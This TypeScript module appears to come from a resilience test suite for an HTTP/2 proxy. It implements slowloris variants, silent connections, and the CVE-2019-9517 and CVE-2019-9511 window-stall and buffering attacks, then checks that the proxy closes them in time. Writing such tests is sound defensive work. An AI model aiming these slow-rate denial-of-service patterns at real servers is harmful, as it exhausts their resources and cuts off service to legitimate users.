// Attacks by slowness: clients that begin something and do not go on (slowloris in each phase), and clients that take
// nothing, or a little now and then, of what they asked for. All wait for a timeout of the proxy; none may wait longer
// than `patienceMs`.

import { type Arena, type AttackClass, closedBy, type Outcome } from "../attack-class.ts";
import {
  Code,
  callBlock,
  codeName,
  Flag,
  FrameType,
  frame,
  headers,
  preface,
  Setting,
  settings,
  windowUpdate,
} from "../octets.ts";
import type { RawClient } from "../raw-client.ts";

/** For timeouts of 10 s, of 30 s, and of 120 s that are passed by at most 30 s; with room for a busy machine. */
const handshakePatienceMs = 16_000;
const writeStallPatienceMs = 65_000;
const streamStallPatienceMs = 158_000;

interface Loris {
  readonly name: string;
  /** Octets at once; then `drip`, one octet every half second. */
  readonly begin: Buffer;
  readonly drip: Buffer;
  readonly codes: readonly number[];
}

const header = headers(1, Buffer.concat([callBlock("/hang"), callBlock("/hang")]), true);

const phases: readonly Loris[] = [
  {
    ...{ name: "slowloris-preface", begin: preface.subarray(0, 3), drip: preface.subarray(3) },
    codes: [Code.SETTINGS_TIMEOUT, Code.ENHANCE_YOUR_CALM, Code.PROTOCOL_ERROR],
  },
  {
    ...{ name: "slowloris-settings", begin: preface, drip: settings([4, 65_535], [3, 100], [5, 16_384]) },
    codes: [Code.SETTINGS_TIMEOUT, Code.ENHANCE_YOUR_CALM],
  },
  {
    // The handshake is complete; a header block begins and trickles.
    ...{ name: "slowloris-header-block", drip: header.subarray(12) },
    begin: Buffer.concat([preface, settings(), frame(FrameType.SETTINGS, Flag.ACK, 0), header.subarray(0, 12)]),
    codes: [Code.ENHANCE_YOUR_CALM, Code.PROTOCOL_ERROR, Code.SETTINGS_TIMEOUT],
  },
  {
    // Whole frames, but the block's end never comes.
    ...{ name: "slowloris-continuation", drip: Buffer.alloc(0) },
    begin: Buffer.concat([
      ...[preface, settings(), frame(FrameType.SETTINGS, Flag.ACK, 0)],
      frame(FrameType.HEADERS, 0, 1, callBlock("/hang")),
    ]),
    codes: [Code.ENHANCE_YOUR_CALM, Code.PROTOCOL_ERROR, Code.SETTINGS_TIMEOUT],
  },
];

export const slowloris: readonly AttackClass[] = phases.map(({ name, begin, drip, codes }) => ({
  ...{ name, source: "slowloris", isSlow: true, isLong: true },
  play: async (arena) => {
    const clients = await Promise.all(Array.from({ length: 20 }, () => arena.open({ isSilent: true })));
    const sinceMs = performance.now();
    for (const client of clients) client.send(begin);
    let at = 0;
    const dripping = setInterval(() => {
      for (const client of clients) if (at < drip.length) client.send(drip.subarray(at, at + 1));
      at++;
    }, 500);
    await arena.readMemory();
    const outcomes = await Promise.all(
      clients.map((client) => closedBy(client, { codes, withinMs: handshakePatienceMs, sinceMs })),
    );
    clearInterval(dripping);
    return outcomes.find(({ problem }) => problem !== undefined) ?? outcomes[0]!;
  },
}));

/** A connection that is taken and says nothing at all. */
export const silentConnection: AttackClass = {
  ...{ name: "slowloris-silent", source: "slowloris", isSlow: true, isLong: true },
  play: async (arena) => {
    const client = await arena.open({ isSilent: true });
    const sinceMs = performance.now();
    const codes = [Code.SETTINGS_TIMEOUT, Code.ENHANCE_YOUR_CALM];
    await arena.readMemory();
    return closedBy(client, { codes, withinMs: handshakePatienceMs, sinceMs });
  },
};

/** H2 windows wide open, the socket not read: what was written must not pile up (Internal Data Buffering). */
export const socketNotRead: AttackClass = {
  ...{ name: "internal-data-buffering", source: "CVE-2019-9517", isSlow: true, isLong: true },
  play: async (arena) => {
    const clients = await Promise.all(
      Array.from({ length: 4 }, () => arena.open({ settings: [[Setting.INITIAL_WINDOW_SIZE, 2 ** 31 - 1]] })),
    );
    await Promise.all(clients.map((client) => client.settled()));
    const sinceMs = performance.now();
    for (const client of clients) {
      client.socket.pause();
      client.send(windowUpdate(0, 2 ** 31 - 1 - 65_535));
      for (let id = 1; id < 8; id += 2) client.send(headers(id, callBlock("/bytes/50000000"), true));
    }
    await new Promise((resolve) => setTimeout(resolve, 3000));
    await arena.readMemory();
    // The socket's end cannot be seen without reading; a write tells of it.
    const over = await Promise.all(clients.map((client) => untilUnwritable(client, sinceMs)));
    const closedMs = Math.max(...over);
    return closedMs < writeStallPatienceMs
      ? { code: "closed", closedMs: Math.round(closedMs) }
      : { code: "none", closedMs: null, problem: `not closed in ${writeStallPatienceMs} ms` };
  },
};

async function untilUnwritable(client: RawClient, sinceMs: number): Promise<number> {
  while (performance.now() - sinceMs < writeStallPatienceMs) {
    client.send(frame(FrameType.WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1])));
    await client.until(() => false, 500);
    if (client.isOver || client.socket.destroyed || client.socket.errored !== null) return performance.now() - sinceMs;
  }
  return Number.POSITIVE_INFINITY;
}

/** Responses that nobody takes: the stream's window stays shut, or opens by an octet now and then. */
const stalls: readonly [name: string, source: string, dripMs: number][] = [
  ["slow-reader-zero-window", "CVE-2019-9517 family", 0],
  ["window-drip", "one octet every 10 s", 10_000],
  ["data-dribble", "CVE-2019-9511, an octet of window every 5 ms for 10 streams", 5],
];

export const stalledStreams: readonly AttackClass[] = stalls.map(([name, source, dripMs]) => ({
  ...{ name, source, isSlow: dripMs === 5, isSlowest: dripMs !== 5, isLong: true },
  play: (arena) => playStall(arena, dripMs),
}));

async function playStall(arena: Arena, dripMs: number): Promise<Outcome> {
  const client = await arena.open({ settings: [[Setting.INITIAL_WINDOW_SIZE, 0]] });
  await client.settled();
  const streams = dripMs === 5 ? 10 : 5;
  const sinceMs = performance.now();
  for (let n = 0; n < streams; n++) client.send(headers(2 * n + 1, callBlock("/bytes/1000000"), true));
  const dripping =
    dripMs === 0
      ? undefined
      : setInterval(() => {
          for (let n = 0; n < streams; n++)
            if (!client.resetById.has(2 * n + 1)) client.send(windowUpdate(2 * n + 1, 1));
        }, dripMs);
  await client.until(() => client.statuses.size >= streams, 3000);
  await arena.readMemory();
  const isOver = await client.until(
    () => client.goaway !== undefined || client.resetById.size + client.ended.size >= streams,
    streamStallPatienceMs,
  );
  clearInterval(dripping);
  arena.log(`${client.dataFrames} DATA frames with ${client.dataBytes} octets came; ${client.describe()}`);
  const closedMs = isOver || client.isOver ? Math.round(performance.now() - sinceMs) : null;
  if (client.goaway !== undefined) {
    return { code: `GOAWAY ${codeName(client.goaway.code)} ${client.goaway.debug.split(":")[0]}`, closedMs };
  }
  const codes = [...client.resets.keys()].map(codeName).join(" ");
  return isOver
    ? { code: `RST_STREAM ${codes}`, closedMs }
    : { code: "none", closedMs, problem: `the streams were still open after ${streamStallPatienceMs} ms` };
}
